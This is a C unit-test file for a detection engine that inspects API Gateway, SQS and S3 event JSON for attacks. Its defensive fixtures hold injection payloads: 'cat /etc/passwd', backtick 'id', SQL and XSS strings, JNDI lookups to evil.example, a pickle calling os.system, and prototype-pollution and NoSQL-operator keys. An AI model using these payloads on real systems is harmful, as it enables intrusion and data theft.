	const char *ev = "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"vigilmarker\"}]}";
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
	ck_assert_uint_ge(pol_result_score(r), 5);
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

START_TEST(excerpts_are_redacted)
{
	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
	const char *ev =
	    "{\"a\":\"vigilmarker key=eyJhbGciOiJIUzI1NiJ9abc123def456 card 4111111111111111 "
	    "http://169.254.169.254/latest/meta-data/\"}";
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert_uint_ge(pol_result_count(r), 1);
	const char *x = pol_result_finding(r, 0)->excerpt;
	ck_assert_msg(strstr(x, "key=****") && !strstr(x, "4111111111111111") &&
	                  strstr(x, "************1111") &&
	                  strstr(x, "http://169.254.169.254/latest/meta-data/") && strlen(x) <= 128,
	              "excerpt: %s", x);
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

START_TEST(weak_signals_add_up)
{
	const char *p = ptest_write_tmp(
	    "weak.json",
	    "{\"threshold\": 6, \"rules\": [{\"id\": \"weak.a\", \"category\": \"xss\", \"score\": "
	    "3,"
	    " \"phrases\": [\"alpha\"]}, {\"id\": \"weak.b\", \"category\": \"xss\", \"score\": 3,"
	    " \"action\": \"alert\", \"phrases\": [\"beta\"]}]}");
	struct pol_engine *e;
	char err[256];
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)) == 0, "%s", err);
	struct pol_result *r;
	const char *one = "{\"a\":\"alpha\"}", *two = "{\"a\":\"alpha\",\"b\":\"beta\"}";
	ck_assert_int_eq(pol_inspect(e, one, strlen(one), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_PASS);
	ck_assert_uint_eq(pol_result_count(r), 1);
	pol_result_free(r);
	ck_assert_int_eq(pol_inspect(e, two, strlen(two), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
	ck_assert_uint_eq(pol_result_score(r), 6);
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

/* A detector's weak signal (a bare command name: cmdi.command, high,
 * confidence 40) is dropped at paranoia 1; paranoia 2 admits it and counts
 * it as a level-1 signal (8 x 50 %), so two of them reach a threshold of 7
 * that their own confidence (3 each) would not. */
START_TEST(paranoia_levels_count_their_signals)
{
	const char *ev = "{\"a\":\"base64\",\"b\":\"gzip\"}";
	struct pol_engine *e;
	struct pol_result *r;
	char err[256];
	const char *p = ptest_write_tmp("pl1.json", "{\"threshold\": 7}");
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_PASS);
	ck_assert_uint_eq(pol_result_count(r), 0);
	pol_result_free(r);
	pol_engine_free(e);

	p = ptest_write_tmp("pl2.json", "{\"threshold\": 7, \"paranoia\": 2}");
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
	ck_assert_uint_eq(pol_result_count(r), 2);
	for (size_t i = 0; i < 2; i++) {
		const struct pol_finding *f = pol_result_finding(r, i);
		ck_assert_str_eq(f->rule, "cmdi.command");
		ck_assert_uint_eq(f->confidence, 40);
		ck_assert_uint_eq(f->score, 4);
	}
	ck_assert_uint_eq(pol_result_score(r), 8);
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

START_TEST(structural_findings_in_keys)
{
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_BLOCK, NULL, 0), 0);
	static const struct {
		const char *ev, *rule, *path;
	} cases[] = {
	    {"{\"a\":{\"constructor\":{\"prototype\":{\"admin\":true}}}}",
	     "proto_pollution.constructor_prototype", "a.constructor.prototype"},
	    {"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{\\\"x\\\":"
	     "1}}\"}]}",
	     "proto_pollution.key", "Records[0].body>$.__proto__"},
	    {"{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
	     "\"headers\":{\"Content-Type\":\"application/x-www-form-urlencoded\"},"
	     "\"body\":\"user=admin&password%5B%24ne%5D=x\"}",
	     "nosqli.bracket_operator", "body>password[$ne]"},
	    {"{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/"
	     "\",\"requestContext\":{\"http\":{}},"
	     "\"body\":\"{\\\"user\\\":{\\\"$gt\\\":\\\"\\\"}}\"}",
	     "nosqli.operator_key", "body>$.user.$gt"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, cases[i].ev, strlen(cases[i].ev), &r), 0);
		int found = 0;
		for (size_t k = 0; k < pol_result_count(r); k++) {
			const struct pol_finding *f = pol_result_finding(r, k);
			found |= strcmp(f->rule, cases[i].rule) == 0 &&
			         strcmp(f->path, cases[i].path) == 0;
		}
		ck_assert_msg(found, "case %zu: no %s at %s", i, cases[i].rule, cases[i].path);
		ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
		pol_result_free(r);
	}
	pol_engine_free(e);
}
END_TEST

/* Case i of a table: cat POL_CAT__COUNT means the event passes clean, any
 * other that a finding of cat stands at path and the event does not pass. */
static void expect_case(const struct pol_result *r, size_t i, enum pol_category cat,
                        const char *path)
{
	if (cat == POL_CAT__COUNT) {
		ck_assert_msg(pol_result_verdict(r) == POL_PASS, "case %zu flagged", i);
		return;
	}
	const struct pol_finding *f = ptest_find_cat(r, cat);
	ck_assert_msg(f, "case %zu: no %s finding", i, pol_category_name(cat));
	ck_assert_str_eq(f->path, path);
	ck_assert_int_ne(pol_result_verdict(r), POL_PASS);
}

/* An S3 key's last segment is the object's name, chosen by the uploader
 * under the application's folders: it is read as a string of its own, so
 * a payload named as a file is found under any prefix, and plain names
 * stay clean. */
START_TEST(s3_object_name_read_alone)
{
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_MONITOR, NULL, 0), 0);
	static const struct {
		const char *key;
		enum pol_category cat; /* POL_CAT__COUNT: none */
	} cases[] = {
	    {"incoming%2F2026%2F%60id%60", POL_CAT_CMDI},
	    {"tenant-42/gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg%3D%3D",
	     POL_CAT_DESERIALIZATION},
	    {"%60id%60", POL_CAT_CMDI},
	    {"uploads/2026/Happy+Face+%281%29.jpg", POL_CAT__COUNT},
	    {"logs/app/2026-12-06T06%3A00%3A00Z.json.gz", POL_CAT__COUNT},
	    {"a/b/c/", POL_CAT__COUNT},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char ev[512];
		int n = snprintf(ev, sizeof(ev),
		                 "{\"Records\":[{\"eventSource\":\"aws:s3\",\"s3\":{\"object\":{"
		                 "\"key\":\"%s\"}}}]}",
		                 cases[i].key);
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, ev, (size_t)n, &r), 0);
		ck_assert_int_eq(pol_result_source(r), POL_SRC_S3);
		expect_case(r, i, cases[i].cat, "Records[0].s3.object.key");
		pol_result_free(r);
	}
	pol_engine_free(e);
}
END_TEST

/* A value that arrives percent-encoded in a JSON body is judged decoded
 * too; a value with a stray percent sign or an encoded word is not. */
START_TEST(percent_encoded_values_judged_decoded)
{
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_MONITOR, NULL, 0), 0);
	static const struct {
		const char *val;
		enum pol_category cat; /* POL_CAT__COUNT: none */
	} cases[] = {
	    {"%27%20OR%20%271%27%3D%271", POL_CAT_SQLI},
	    {"x%3B%20cat%20%2Fetc%2Fpasswd", POL_CAT_CMDI},
	    {"%3Cscript%3Ealert(1)%3C%2Fscript%3E", POL_CAT_XSS},
	    {"50% off, today only: 100% cotton", POL_CAT__COUNT},
	    {"q=hello%20world%21&page=2", POL_CAT__COUNT},
	    {"O%27Brien%2C%20Mary", POL_CAT__COUNT},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char ev[512];
		int n = snprintf(ev, sizeof(ev), "{\"note\":\"%s\"}", cases[i].val);
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, ev, (size_t)n, &r), 0);
		expect_case(r, i, cases[i].cat, "note");
		pol_result_free(r);
	}
	/* A detector that found the input's attack in clear does not judge
	 * its decoded text again: one hit per detector and input. */
	static const char both[] = "{\"note\":\"%3Cscript%3Ealert(1)%3C%2Fscript%3E "
	                           "<img src=x onerror=alert(1)>\"}";
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, both, sizeof(both) - 1, &r), 0);
	ck_assert_uint_eq(ptest_count_cat(r, POL_CAT_XSS), 1);
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

/* A field's name says what its value holds: a URL where a file path goes is
 * remote file inclusion, a URL where a URL goes is data; the name is read
 * by whole words ("profile" holds no "file"). */
START_TEST(field_names_say_what_values_hold)
{
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_MONITOR, NULL, 0), 0);
	static const struct {
		const char *ev;
		int flagged;
	} cases[] = {
	    {"{\"a\":{\"_CONF[path]\":\"https://foo.bar\"}}", 1},
	    {"{\"a\":{\"templateFile\":\"https://foo.bar/t.txt\"}}", 1},
	    {"{\"a\":{\"include\":\"ftp://files.example/x\"}}", 1},
	    {"{\"a\":{\"profile\":\"https://foo.bar\"}}", 0},
	    {"{\"a\":{\"website\":\"https://foo.bar\"}}", 0},
	    {"{\"a\":{\"filePath\":\"reports/2024/q1.pdf\"}}", 0},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, cases[i].ev, strlen(cases[i].ev), &r), 0);
		int found = 0;
		for (size_t k = 0; k < pol_result_count(r); k++)
			found |= strcmp(pol_result_finding(r, k)->rule, "ssrf.remote_include") == 0;
		ck_assert_msg(found == cases[i].flagged, "case %zu: %s", i, cases[i].ev);
		ck_assert_int_eq(pol_result_verdict(r), cases[i].flagged ? POL_ALERT : POL_PASS);
		pol_result_free(r);
	}
	pol_engine_free(e);
}
END_TEST

/* One engine, many threads: results must not depend on who else runs. */
static const char *const mt_events[] = {
    "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
    "\"queryStringParameters\":{\"q\":\"${jndi:ldap://x/a}\"}}",
    "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"__proto__\\\":{}}\"}]}",
    "{\"a\":\"hello world\"}",
};

struct mt_arg {
	const struct pol_engine *e;
	unsigned bad;
};

static void *mt_run(void *p)
{
	struct mt_arg *a = p;
	for (int round = 0; round < 300; round++)
		for (size_t i = 0; i < 3; i++) {
			struct pol_result *r;
			if (pol_inspect(a->e, mt_events[i], strlen(mt_events[i]), &r)) {
				a->bad++;
				continue;
			}
			enum pol_verdict want = i == 2 ? POL_PASS : POL_BLOCK;
			a->bad += pol_result_verdict(r) != want;
			pol_result_free(r);
		}
	return NULL;
}

START_TEST(one_engine_many_threads)
{
	/* a regex rule too: PCRE2's match context is shared, match data not */
	const char *p =
	    ptest_write_tmp("mt.json", "{\"rules\":[{\"id\":\"mt.re\",\"category\":\"jndi\","
	                               "\"regex\":\"\\\\$\\\\{jndi:(ldap|rmi)\"}]}");
	struct pol_engine *e;
	char err[256];
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)) == 0, "%s", err);
	pthread_t t[4];
	struct mt_arg a[4];
	for (int i = 0; i < 4; i++) {
		a[i] = (struct mt_arg){e, 0};
		ck_assert_int_eq(pthread_create(&t[i], NULL, mt_run, &a[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		pthread_join(t[i], NULL);
		ck_assert_uint_eq(a[i].bad, 0);
	}
	pol_engine_free(e);
}
END_TEST

/* ---- policy files ---- */

START_TEST(policy_rules_regex_targets_exclusions)
{
	const char *p = ptest_write_tmp(
	    "rules.json",
	    "{\"rules\": [{\"id\": \"app.admin\", \"category\": \"sqli\", \"severity\": "
	    "\"critical\",\n"
	    "  \"regex\": \"adm[i1]n\\\\s*--\", \"transforms\": [\"url_decode\", \"lowercase\"],\n"
	    "  \"targets\": {\"sources\": [\"apigw-*\"], \"paths\": "
	    "[\"queryStringParameters.*\"]}}],\n"
	    " \"exclusions\": [{\"rules\": [\"app.*\"], \"paths\": "
	    "[\"queryStringParameters.safe\"]}]}\n");
	char err[256];
	struct pol_engine *e;
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	static const struct {
		const char *ev;
		int hit;
	} cases[] = {
	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	     "\"queryStringParameters\":{\"u\":\"ADM1N%20--\"}}",
	     1},
	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	     "\"queryStringParameters\":{\"safe\":\"admin --\"}}",
	     0},
	    {"{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	     "\"headers\":{\"x\":\"admin --\"}}",
	     0},
	    {"{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"admin --\"}]}", 0},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, cases[i].ev, strlen(cases[i].ev), &r), 0);
		ck_assert_msg(has_rule(r, "app.admin") == cases[i].hit, "case %zu", i);
		pol_result_free(r);
	}
	pol_engine_free(e);
}
END_TEST

/* Big events replay the detectors' verdicts on strings met before: the
 * same attack at many paths must still be found at each, as in an event of
 * its own, and an exclusion by path must still apply to each one alone. */
START_TEST(repeated_strings_judged_alike)
{
	const char *p = ptest_write_tmp(
	    "excl.json", "{\"exclusions\": [{\"rules\": [\"jndi\"], \"paths\": [\"b3\"]}]}\n");
	char err[256];
	struct pol_engine *e;
	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	static const char attack[] = "${jndi:ldap://evil.example/a}";
	/* alone: which rules fire */
	struct pol_result *r;
	char small[256];
	snprintf(small, sizeof(small), "{\"b0\":\"%s\"}", attack);
	ck_assert_int_eq(pol_inspect(e, small, strlen(small), &r), 0);
	size_t alone = pol_result_count(r);
	ck_assert_uint_gt(alone, 0);
	char rules[8][64];
	for (size_t k = 0; k < alone && k < 8; k++)
		snprintf(rules[k], sizeof(rules[k]), "%s", pol_result_finding(r, k)->rule);
	pol_result_free(r);
	/* in a big event, after hundreds of repeated benign strings */
	size_t cap = 1 << 16, len = 0;
	char *big = malloc(cap);
	len += (size_t)snprintf(big + len, cap - len, "{");
	for (int i = 0; i < 600; i++)
		len += (size_t)snprintf(big + len, cap - len, "\"a%d\":\"the same note\",", i);
	for (int i = 0; i < 6; i++)
		len += (size_t)snprintf(big + len, cap - len, "%s\"b%d\":\"%s\"", i ? "," : "", i,
		                        attack);
	len += (size_t)snprintf(big + len, cap - len, "}");
	ck_assert_int_eq(pol_inspect(e, big, len, &r), 0);
	for (int i = 0; i < 6; i++) {
		char path[8];
		snprintf(path, sizeof(path), "b%d", i);
		size_t at = 0;
		for (size_t k = 0; k < pol_result_count(r); k++) {
			const struct pol_finding *f = pol_result_finding(r, k);
			if (strcmp(f->path, path) != 0)
				continue;
			ck_assert_msg(i != 3 || f->category != POL_CAT_JNDI, "b3 excluded");
			if (i != 3) {
				ck_assert_uint_lt(at, alone);
				ck_assert_str_eq(f->rule, rules[at]);
			}
			at++;
		}
		if (i != 3)
			ck_assert_msg(at == alone, "%s: %zu findings, %zu alone", path, at, alone);
	}
	pol_result_free(r);
	free(big);
	pol_engine_free(e);
}
END_TEST

/* The memo of verdicts and the parser's blocks are kept per thread between
 * inspections: nothing of one inspection may show in the next, even under
 * another engine's policy. */
static size_t count_category(const struct pol_engine *e, const char *ev, size_t n,
                             enum pol_category cat)
{
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev, n, &r), 0);
	size_t k = ptest_count_cat(r, cat);
	pol_result_free(r);
	return k;
}

START_TEST(nothing_carries_over_between_inspections)
{
	/* time enough for the sanitizers; the second engine runs jndi only
	 * for SQS: this unknown event's strings are not judged by it, so no
	 * hit of the first engine may be replayed */
	char err[256];
	struct pol_engine *on, *off;
	const char *p = ptest_write_tmp("longer.json", "{\"limits\": {\"budget_us\": 10000000}}\n");
	ck_assert_msg(pol_engine_new(&on, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	p = ptest_write_tmp("nojndi.json",
	                    "{\"limits\": {\"budget_us\": 10000000}, \"detectors\": "
	                    "{\"jndi\": {\"action\": \"alert\", \"sources\": [\"sqs\"]}}}\n");
	ck_assert_msg(pol_engine_new(&off, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
	              err);
	/* big enough for spare blocks (over 128 KB), the attack after the
	 * strings that start the memo, twice so that its verdict is replayed
	 * (and within the findings limit) */
	size_t cap = 1 << 20, len = 0;
	char *big = malloc(cap);
	len += (size_t)snprintf(big + len, cap - len, "{\"notes\":[");
	for (int i = 0; len < 150000; i++)
		len += (size_t)snprintf(big + len, cap - len, "%s\"note \\\"%d\\\" of many\"",
		                        i ? "," : "", i);
	for (int i = 0; i < 2; i++)
		len += (size_t)snprintf(big + len, cap - len, ",\"${jndi:ldap://evil.example/a}\"");
	len += (size_t)snprintf(big + len, cap - len, "]}");
	size_t with = count_category(on, big, len, POL_CAT_JNDI);
	ck_assert_uint_gt(with, 0);
	ck_assert_uint_eq(count_category(off, big, len, POL_CAT_JNDI), 0);
	ck_assert_uint_eq(count_category(on, big, len, POL_CAT_JNDI), with);
	/* a smaller event after a bigger one: parsed from its own bytes */
	const char *small = "{\"q\":\"${jndi:ldap://x.example/b}\"}";
	ck_assert_uint_eq(count_category(on, small, strlen(small), POL_CAT_JNDI), 1);
	ck_assert_uint_eq(count_category(off, small, strlen(small), POL_CAT_JNDI), 0);
	free(big);
	pol_engine_free(on);
	pol_engine_free(off);
}
END_TEST

START_TEST(policy_check_names_file_line_cause)
{
	static const struct {
		const char *text, *want;
	} cases[] = {
	    {"{\n \"threshold\": 5,\n \"thresold\": 3\n}", ":3: unknown member \"thresold\""},
	    {"{\n \"rules\": [\n  {\"id\": \"x\", \"category\": \"sqli\",\n   \"regex\": \"(a\"}]}",
	     ":4: rule \"x\": regex:"},
	    {"{\n \"limits\": {\"depth\": 100000}}",
	     ":2: \"depth\" must be an integer from 1 to 256"},
	    {"{\n \"rules\": [{\"id\": \"x\", \"category\": \"nope\", \"phrases\": [\"a\"]}]}",
	     ":2: \"category\" must name"},
	    {"{\n \"detectors\": {\"sqli\": {\"sources\": [\"kafka\"]}}}",
	     ":2: \"kafka\" names no event source"},
	    {"{\n \"rules\": [{\"id\": \"x\", \"category\": \"xss\"}]}",
	     ":2: rule \"x\" needs a \"regex\" or \"phrases\""},
	    {"{\n \"rules\": [\n}", ":3: not valid JSON"},
	    /* JSON's \u0000 would end a C string: refused, not cut short (a
	     * phrase holding one was once read past its copy) */
	    {"{\"rules\": [{\"id\": \"x\", \"category\": \"xss\",\n \"phrases\": "
	     "[\"ab\\u0000cd\"]}]}",
	     ":2: a phrase must not hold a NUL byte"},
	    {"{\"rules\": [{\"id\": \"x\\u0000y\", \"category\": \"xss\", \"phrases\": [\"a\"]}]}",
	     ":1: \"id\" must not hold a NUL byte"},
	    {"{\"exclusions\": [{\"rules\": [\"sqli\"],\n \"paths\": [\"body>\\u0000*\"]}]}",
	     ":2: a pattern must not hold a NUL byte"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *p = ptest_write_tmp("bad.json", cases[i].text);
		char err[512];
		ck_assert_int_eq(pol_policy_check(p, err, sizeof(err)), -EINVAL);
		ck_assert_msg(strncmp(err, p, strlen(p)) == 0 && strstr(err, cases[i].want),
		              "case %zu: got \"%s\", want \"%s\"", i, err, cases[i].want);
	}
	const char *ok = ptest_write_tmp(
	    "ok.json", "{\"paranoia\": 2, \"threshold\": 8, \"limits\": {\"depth\": 32, "
	               "\"budget_us\": 2000},\n"
	               " \"detectors\": {\"xss\": \"alert\", \"ssrf\": {\"action\": \"off\"}}}");
	char err[256];
	ck_assert_int_eq(pol_policy_check(ok, err, sizeof(err)), 0);
	ck_assert_int_eq(pol_policy_check("/nonexistent/policy.json", err, sizeof(err)), -ENOENT);
}
END_TEST

static Suite *policies_suite(void)
{
	Suite *s = suite_create("policies");
	TCase *t = tcase_create("engine");
	tcase_set_timeout(t, 60);
	tcase_add_test(t, json_testsuite);
	tcase_add_test(t, json_paths_and_escapes);
	tcase_add_test(t, json_deep_nesting_is_iterative);
	tcase_add_test(t, sources_of_sample_events);
	tcase_add_test(t, extract_http_fields);
	tcase_add_test(t, extract_bodies);
	tcase_add_test(t, extract_queues_and_streams);
	tcase_add_test(t, limits_are_reported_and_inspection_goes_on);
	tcase_add_test(t, budget_holds_on_one_long_string);
	tcase_add_test(t, detection_straddles_window_boundary);
	tcase_add_test(t, budget_holds_on_inflate);
	tcase_add_test(t, malformed_event_is_an_error_verdict);
	tcase_add_test(t, block_responses_per_source);
	tcase_add_test(t, weak_signals_add_up);
	tcase_add_test(t, paranoia_levels_count_their_signals);
	tcase_add_test(t, excerpts_are_redacted);
	tcase_add_test(t, structural_findings_in_keys);
	tcase_add_test(t, field_names_say_what_values_hold);
	tcase_add_test(t, s3_object_name_read_alone);
	tcase_add_test(t, percent_encoded_values_judged_decoded);
	tcase_add_test(t, one_engine_many_threads);
	tcase_add_test(t, policy_rules_regex_targets_exclusions);
	tcase_add_test(t, repeated_strings_judged_alike);
	tcase_add_test(t, nothing_carries_over_between_inspections);
	tcase_add_test(t, policy_check_names_file_line_cause);
	suite_add_tcase(s, t);
	return s;
}

int main(void)
{
	ptest_setup();
	SRunner *sr = srunner_create(policies_suite());
	srunner_set_fork_status(sr, CK_NOFORK);
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	ptest_cleanup();
	return failed ? 1 : 0;
}
